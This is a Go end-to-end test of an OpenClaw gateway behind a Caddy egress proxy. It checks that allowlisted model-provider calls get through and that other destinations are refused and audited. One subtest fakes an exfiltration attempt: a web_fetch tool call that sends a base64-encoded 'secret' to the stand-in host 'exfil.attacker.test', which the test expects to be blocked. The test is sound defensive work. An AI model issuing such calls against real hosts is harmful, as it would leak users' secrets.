//go:build openclaw

// The real OpenClaw gateway with its managed proxy (proxy.proxyUrl) pointed
// at bin/caddy's egress_proxy. `make e2e-openclaw` (part of `make test`)
// runs this with TestRealOpenClaw.

package e2e

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/openclaw-secure-stack/securestack/auth"
	"github.com/openclaw-secure-stack/securestack/internal/testdns"
	"github.com/openclaw-secure-stack/securestack/internal/testport"
)

// TestRealOpenClawEgress puts the gateway behind egress_proxy the way the
// egress picture in the README does: the model provider is a name
// (model.allowed.test) that only the proxy can resolve, through the
// allowlisting resolver; the stand-in provider listens on 127.0.0.2, the
// one internal address allow_cidr lets the proxy reach. Anything else the
// gateway asks for is refused by the proxy and audited.
func TestRealOpenClawEgress(t *testing.T) {
	oc := ensureOpenClaw(t)
	dir := t.TempDir()
	for _, d := range []string{"home", "state", "workspace"} {
		must(t, os.MkdirAll(filepath.Join(dir, d), 0o700))
	}
	gwToken, err := auth.Generate()
	must(t, err)

	dns, err := testdns.Start()
	must(t, err)
	t.Cleanup(dns.Close)
	// The provider's port is picked on 127.0.0.1 and used on 127.0.0.2: the
	// whole of 127/8 is the loopback interface.
	_, modelPort, _ := net.SplitHostPort(testport.Free(t))
	modelAddr := "127.0.0.2:" + modelPort
	dns.Static("model.allowed.test", 0, "127.0.0.2")
	dns.Static("exfil.attacker.test", 0, "127.0.0.2") // resolvable, but not on the list

	proxyAddr, gwAddr := testport.Free(t), testport.Free(t)
	_, gwPort, _ := net.SplitHostPort(gwAddr)
	audit := filepath.Join(dir, "egress-audit.jsonl")
	must(t, os.WriteFile(filepath.Join(dir, "allowlist.txt"), []byte("model.allowed.test\n"), 0o600))
	must(t, os.WriteFile(filepath.Join(dir, "Caddyfile"), []byte(fmt.Sprintf(`{
	admin off
	auto_https off
	persist_config off
}
http://:%s {
	bind 127.0.0.1
	egress_proxy {
		allowlist %s/allowlist.txt
		allow_cidr 127.0.0.2/32
		ports 443 80 %s
		# OpenClaw tunnels http:// with CONNECT: the provider's tunnels are
		# read as HTTP/1.1 and each request's Host checked (REDTEAM round 4).
		http_ports 80 %[3]s
		resolver %s
		audit_log %s
	}
	respond /health "ok" 200
}
`, port(proxyAddr), dir, modelPort, dns.Addr, audit)), 0o600))

	config := map[string]any{
		"gateway": map[string]any{
			"mode": "local", "port": atoi(gwPort), "bind": "loopback",
			"auth": map[string]any{"mode": "token", "token": gwToken},
			"http": map[string]any{"endpoints": map[string]any{"chatCompletions": map[string]any{"enabled": true}}},
		},
		"proxy":     map[string]any{"proxyUrl": "http://" + proxyAddr},
		"tools":     map[string]any{"web": map[string]any{"fetch": map[string]any{"useTrustedEnvProxy": true}}},
		"update":    map[string]any{"checkOnStart": false},
		"discovery": map[string]any{"mdns": map[string]any{"mode": "off"}},
		"models": map[string]any{"mode": "merge", "providers": map[string]any{"standin": map[string]any{
			"baseUrl": "http://model.allowed.test:" + modelPort + "/v1", "apiKey": "sk-local", "api": "openai-completions",
			"models": []any{map[string]any{"id": "standin-model", "name": "Stand-in", "reasoning": false, "input": []string{"text"},
				"cost": map[string]any{"input": 0, "output": 0, "cacheRead": 0, "cacheWrite": 0}, "contextWindow": 32000, "maxTokens": 4096}},
		}}},
		"agents": map[string]any{"defaults": map[string]any{"model": map[string]any{"primary": "standin/standin-model"}, "workspace": filepath.Join(dir, "workspace")}},
	}
	b, _ := json.MarshalIndent(config, "", "  ")
	must(t, os.WriteFile(filepath.Join(dir, "state", "openclaw.json"), b, 0o600))

	model := start(t, "openclaw-standin", nil, "-listen", modelAddr, "-chunk-delay", "5ms")
	model.waitHealthy(t, "http://"+modelAddr+"/health")
	proxy := start(t, "caddy", []string{"XDG_DATA_HOME=" + dir, "XDG_CONFIG_HOME=" + dir},
		"run", "--adapter", "caddyfile", "--config", filepath.Join(dir, "Caddyfile"))
	proxy.waitHealthy(t, "http://"+proxyAddr+"/health")
	// No HTTP(S)_PROXY from the test's own environment: the managed proxy
	// is what is under test.
	env := append(oc.env(dir), "HTTP_PROXY=", "HTTPS_PROXY=", "http_proxy=", "https_proxy=", "NO_PROXY=", "no_proxy=")

	t.Run("openclaw proxy validate passes: the allowed stand-in is reached, the loopback canary is not", func(t *testing.T) {
		cmd := exec.Command(oc.node, oc.cli, "proxy", "validate", "--json",
			"--proxy-url", "http://"+proxyAddr, "--allowed-url", "http://model.allowed.test:"+modelPort+"/health", "--timeout-ms", "10000")
		cmd.Env = append(os.Environ(), env...)
		out, err := cmd.Output()
		var rep struct {
			OK     bool `json:"ok"`
			Checks []struct {
				Kind  string `json:"kind"`
				URL   string `json:"url"`
				OK    bool   `json:"ok"`
				Error string `json:"error"`
			} `json:"checks"`
		}
		if jerr := json.Unmarshal(out, &rep); jerr != nil || err != nil || !rep.OK {
			t.Fatalf("openclaw proxy validate: %v %v\n%s", err, jerr, out)
		}
		kinds := ""
		for _, c := range rep.Checks {
			kinds += c.Kind + " "
			if !c.OK {
				t.Errorf("check %s %s failed: %s", c.Kind, c.URL, c.Error)
			}
		}
		if !strings.Contains(kinds, "allowed") || !strings.Contains(kinds, "denied") {
			t.Errorf("checks run: %s; want an allowed and a denied check", kinds)
		}
		// The denied check's canary is on 127.0.0.1 at a random port: the
		// proxy refused it (on the port, the first check it fails), and the
		// allowed check reached the stand-in. OpenClaw's proxy agent tunnels
		// http:// targets with CONNECT too.
		findEgress(t, audit, func(r egressRecord) bool {
			return r.Outcome == "denied" && r.Fields["host"] == "127.0.0.1" && r.Fields["method"] == "CONNECT"
		})
		findEgress(t, audit, func(r egressRecord) bool {
			return r.Outcome == "allowed" && r.Fields["host"] == "model.allowed.test" && r.Fields["addr"] == modelAddr
		})
	})

	gateway := startPath(t, "openclaw-gateway", oc.node, env, oc.cli, "gateway", "run", "--port", gwPort, "--bind", "loopback", "--auth", "token")
	gateway.waitHealthyWithin(t, "http://"+gwAddr+"/health", 3*time.Minute)

	t.Run("a provider call to the allowed stand-in goes through the proxy", func(t *testing.T) {
		body := `{"model":"openclaw","messages":[{"role":"user","content":"egress check 7731"}]}`
		req, _ := http.NewRequest(http.MethodPost, "http://"+gwAddr+"/v1/chat/completions", strings.NewReader(body))
		req.Header.Set("Authorization", "Bearer "+gwToken)
		req.Header.Set("Content-Type", "application/json")
		res, err := (&http.Client{Timeout: 3 * time.Minute}).Do(req)
		if err != nil {
			t.Fatal(err)
		}
		out, _ := io.ReadAll(res.Body)
		res.Body.Close()
		if res.StatusCode != 200 || !strings.Contains(string(out), "egress check 7731") {
			t.Fatalf("chat completion: %d %s", res.StatusCode, out)
		}
		r := findEgress(t, audit, func(r egressRecord) bool {
			return r.Outcome == "allowed" && r.Fields["host"] == "model.allowed.test"
		})
		if r.Fields["addr"] != modelAddr {
			t.Errorf("the provider call went to %v, want %s", r.Fields["addr"], modelAddr)
		}
	})

	t.Run("a fetch by the gateway to a host off the list is refused and audited", func(t *testing.T) {
		body := `{"tool":"web_fetch","args":{"url":"http://exfil.attacker.test:` + modelPort + `/c2VjcmV0"}}`
		req, _ := http.NewRequest(http.MethodPost, "http://"+gwAddr+"/tools/invoke", strings.NewReader(body))
		req.Header.Set("Authorization", "Bearer "+gwToken)
		req.Header.Set("Content-Type", "application/json")
		res, err := (&http.Client{Timeout: 2 * time.Minute}).Do(req)
		if err != nil {
			t.Fatal(err)
		}
		out, _ := io.ReadAll(res.Body)
		res.Body.Close()
		t.Logf("web_fetch through the proxy: %d %s", res.StatusCode, tail(string(out), 600))
		findEgress(t, audit, func(r egressRecord) bool {
			return r.Outcome == "blocked" && r.Rules[0] == "name_not_allowed" && r.Fields["host"] == "exfil.attacker.test"
		})
		if dns.Total("exfil.attacker.test") != 0 {
			t.Error("the refused name was resolved: the query alone could carry data out")
		}
		reqs, err := http.Get("http://" + modelAddr + "/__standin/requests")
		if err != nil {
			t.Fatal(err)
		}
		seen, _ := io.ReadAll(reqs.Body)
		reqs.Body.Close()
		if bytes.Contains(seen, []byte("c2VjcmV0")) {
			t.Error("the refused request reached the server behind the name")
		}
	})
}

func port(hostport string) string {
	_, p, _ := net.SplitHostPort(hostport)
	return p
}

type egressRecord struct {
	Outcome string         `json:"outcome"`
	Rules   []string       `json:"rules"`
	Fields  map[string]any `json:"fields"`
}

// findEgress waits for an audit record of the proxy that matches.
func findEgress(t *testing.T, path string, match func(egressRecord) bool) egressRecord {
	t.Helper()
	deadline := time.Now().Add(30 * time.Second)
	for {
		b, _ := os.ReadFile(path)
		lines := bytes.Split(b, []byte("\n"))
		for _, line := range lines[:len(lines)-1] {
			var r egressRecord
			if json.Unmarshal(line, &r) == nil && len(r.Rules) > 0 && match(r) {
				return r
			}
		}
		if time.Now().After(deadline) {
			t.Fatalf("no matching record in the egress audit log:\n%s", tail(string(b), 3000))
		}
		time.Sleep(100 * time.Millisecond)
	}
}
